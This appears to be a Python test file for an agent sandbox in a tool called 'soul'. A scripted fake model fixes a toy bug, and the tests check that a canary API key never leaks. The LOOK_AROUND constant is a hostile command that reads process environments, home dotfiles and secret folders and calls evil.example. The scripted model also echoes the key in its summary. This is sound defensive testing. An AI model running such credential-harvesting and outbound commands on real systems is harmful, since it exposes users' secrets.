"""A fix with the built-in agent: server, sandbox, model proxy and a bare repository are real, the model is a script. Our key is
looked for wherever the agent and people can look."""

import json
import os
import subprocess
import tempfile
import unittest

import soul
from test_agent import Script

CANARY = "sk-canary-0123456789abcdef"
LOOK_AROUND = ("env; cat /proc/[0-9]*/environ /proc/[0-9]*/cmdline; ls -lR /run/soulcaster ~; cat ~/.* /run/soulcaster/*; "
               "python3 -c 'import urllib.request as r; r.urlopen(\"https://evil.example/\")'")
MENDS = (("run", {"command": LOOK_AROUND}), ("edit", {"path": "sum.py", "old": "a - b", "new": "a + b"}),
         ("done", {"summary": f"It subtracted. {CANARY}"}))


def git(*words, cwd):
    done = subprocess.run(["git", "-c", "user.name=a", "-c", "user.email=a@example.org", *words], cwd=cwd, check=True,
                          capture_output=True, text=True)
    return done.stdout


class TestFixModel(unittest.TestCase):
    def setUp(self):
        folder = tempfile.TemporaryDirectory(prefix="soul-fix-")
        self.addCleanup(folder.cleanup)
        self.data, work = os.path.join(folder.name, "data"), os.path.join(folder.name, "first")
        self.bare = os.path.join(self.data, "repositories", "toy")
        os.makedirs(os.path.dirname(self.bare), mode=0o700)
        os.chmod(self.data, 0o700)
        os.mkdir(work)
        for name, text in (("sum.py", "def add(a, b):\n    return a - b\n"), ("test.sh", "python3 -c 'import sum'\n")):
            with open(os.path.join(work, name), "w", encoding="utf-8") as f:
                f.write(text)
        git("init", "-q", "-b", "main", cwd=work)
        git("add", "-A", cwd=work)
        git("commit", "-qm", "first", cwd=work)
        git("clone", "-q", "--bare", work, self.bare, cwd=work)

    def fix(self, script, **settings):
        """One fix to its end: the job, its log."""
        self.server = soul.Server("--agent-models", "openai:m=1/10", "--agent-openai-url", script.url + "/v1", data=self.data,
                                  env={"OPENAI_API_KEY": CANARY, "no_proxy": "127.0.0.1"})
        self.addCleanup(self.server.close)
        client = self.server.client()
        self.addCleanup(client.close)
        settings = {"forge": "local", "repository": "toy", "agent": "builtin", "model": "m", "test_command": "sh test.sh",
                    **settings}
        self.assertEqual(client.call("PUT", "/api/config/fix", settings).status, 200)
        client.post("/api/ingest/manual", {"title": "sum is wrong", "body": "adding two numbers subtracts them"})
        soul.grouped(client)
        cluster = client.get("/api/clusters").json["items"][0]["id"]
        job = client.post(f"/api/clusters/{cluster}/start_fix", {}).json["id"]

        def over():
            now = client.get(f"/api/jobs/{job}").json
            return now if now["status"] not in ("pending", "running") else None
        return soul.wait_for("the fix", over), client.get(f"/api/jobs/{job}/logs").json

    def script(self, *calls):
        model = Script(*calls)
        self.addCleanup(model.server_close)
        self.addCleanup(model.shutdown)
        return model

    def test_from_a_report_to_a_pull_request_and_the_key_is_nowhere(self):
        model = self.script(*MENDS)
        job, log = self.fix(model)
        self.assertEqual((job["status"], job["step"], job["pr_state"]), ("success", "opened", "open"), json.dumps(log))
        self.assertEqual(git("show", f"{job['branch']}:sum.py", cwd=self.bare), "def add(a, b):\n    return a + b\n")
        self.assertEqual(job["blocked_hosts"], ["evil.example:443"])
        self.assertEqual(job["cost"]["calls"], 3)
        self.assertAlmostEqual(job["cost"]["usd"], (30 * 1 + 6 * 10) / 1e6, places=4)
        self.assertEqual({headers["Authorization"] for _, headers, _ in model.asked}, {f"Bearer {CANARY}"})
        traces = {headers["traceparent"].split("-")[1] for _, headers, _ in model.asked}
        self.assertEqual(len(traces), 1)  # that of the request that asked for the fix
        seen = json.dumps([body for _, _, body in model.asked[:2]])
        self.assertIn("HOME=/home/agent", seen)  # it did look around
        self.assertNotIn(CANARY, seen)
        # The model itself has said the key, as if it knew it: it does not reach people.
        self.assertNotIn(CANARY, json.dumps([job, log]) + self.server.logged())
        self.assertIn("It subtracted. [redacted]", json.dumps(log))
        self.assertNotIn(CANARY, git("log", "-p", "--all", cwd=self.bare))
        for folder, _, files in os.walk(self.bare):  # the pull request is a file there
            for name in files:
                with open(os.path.join(folder, name), "rb") as f:
                    self.assertNotIn(CANARY.encode(), f.read(), name)

    def test_a_cap_ends_it(self):
        model = self.script(*MENDS)
        job, log = self.fix(model, max_usd=0.000001)
        self.assertEqual((job["status"], job["pr_state"]), ("failed", "none"))
        self.assertIn("cap", job["error"] + json.dumps(log))
        self.assertEqual(model.asked, [])

    def test_a_model_without_a_price_is_not_asked(self):
        model = self.script(*MENDS)
        job, log = self.fix(model, model="dearer")
        self.assertEqual((job["status"], job["pr_state"]), ("failed", "none"))
        self.assertIn("has no price", json.dumps(log))
        self.assertEqual(model.asked, [])

    def test_a_model_that_goes_round_in_circles_opens_nothing(self):
        job, log = self.fix(self.script(("list", {})))
        self.assertEqual((job["status"], job["pr_state"]), ("failed", "none"))
        self.assertIn("gave up: the same call gave the same answer", json.dumps(log))


if __name__ == "__main__":
    unittest.main()
